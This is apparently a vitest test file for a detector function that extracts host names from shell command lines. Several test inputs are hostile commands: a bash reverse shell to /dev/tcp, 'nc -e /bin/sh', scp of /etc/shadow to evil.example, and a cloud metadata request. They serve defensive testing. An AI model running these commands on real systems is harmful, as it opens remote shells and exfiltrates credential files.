import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { hostsIn } from '../../../../../../services/detector/sessions/record/named-hosts.ts';

describe('hosts that a command names', () => {
  it.each([
    ['curl http://a/?x=1&y=2', ['a']],
    ['curl -sSL https://User:pw@Evil.Example.:8443/x', ['evil.example']],
    ['wget -q -O out.sh example.com/x', ['example.com']],
    ['curl --output out.sh --silent example.com', ['example.com']],
    ['psql postgresql://app:secret@db.pay.svc:5432/pay', ['db.pay.svc']],
    ['java -Durl=jdbc:mysql://db:3306/x', ['db']],
    ['ssh -i /key -p 22 root@10.0.0.7 cat /x', ['10.0.0.7']],
    ['ssh -p 22 web1 ls b.sh', ['web1']],
    ['scp /etc/shadow bob@evil.example:/tmp', ['evil.example']],
    ['scp web1:/etc/passwd .', ['web1']],
    ['nc -lvp 4444', []],
    ['nc -e /bin/sh evil 4444', ['evil']],
    ['sh -c cat /x | nc 66.6.6.6 99', ['66.6.6.6']],
    ['bash -c bash -i >& /dev/tcp/66.6.6.6/4444 0>&1', ['66.6.6.6']],
    ['ping -c 3 gateway', ['gateway']],
    ['ping web >out 2>err', ['web']],
    ['dig @8.8.8.8 example.org MX', ['8.8.8.8', 'example.org']],
    ['nslookup kubernetes.default.svc', ['kubernetes.default.svc']],
    ['curl http://[fe80::1]:80/ [::1]:8080', ['fe80::1', '::1']],
    ['nmap -p 1-100 10.0.0.0/24', ['10.0.0.0']],
    ['redis-cli -h cache ping', ['cache']],
    ['mysql -hdb --host=other', ['db', 'other']],
    ['sudo timeout 5 telnet mail 25', ['mail']],
    ['socat - TCP:evil.example:443', ['evil.example']],
    ['openssl s_client -connect pay.example:443', ['pay.example']],
    ['tool --server=10.1.2.3:80 x', ['10.1.2.3']],
    ['curl 169.254.169.254/latest/meta-data', ['169.254.169.254']],
    ['git clone git@github.com:foo/bar', ['github.com']],
  ])('%j: %j', (commandLine, hosts) => {
    expect(hostsIn(commandLine)).toEqual(hosts);
  });

  it.each([
    ...['', 'ls -l /tmp', 'cat config.yaml', 'date 12:30:45', 'perl -MDB::DB x', 'npm i @a/b@1.2'],
    ...['echo ping foo', 'docker run img@sha256:abc', 'sed s/a/b/', ':: ://x', 'http:///path'],
    ...['ssh', 'curl', 'nc', 'curl -X POST', 'sh script.sh'],
  ])('%j: none', (commandLine) => {
    expect(hostsIn(commandLine)).toEqual([]);
  });

  it('are no more than fifty, and none is longer than a name may be', () => {
    const many = Array.from({ length: 200 }, (_, i) => `http://h${i}/`).join(' ');
    expect(hostsIn(many)).toHaveLength(50);
    expect(hostsIn(`curl http://${'a'.repeat(64)}/`)).toEqual([]);
    expect(hostsIn(`curl http://${'a.'.repeat(200)}b/`)).toEqual([]);
  });

  it('are named by any text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
        for (const host of hostsIn(`curl ${text}`)) expect(host).toMatch(/^[\w.:-]+$/);
      }),
    );
    for (const piece of ['a@', '://', 'a.', '[', ':', '%', 'nc ', '-h', 'tcp:', '=', 'a-', '1.']) {
      expect(hostsIn(piece.repeat(100_000)).length).toBeLessThanOrEqual(50);
      expect(hostsIn(`curl x${piece.repeat(8000)}`).length).toBeLessThanOrEqual(50);
    }
  });
});
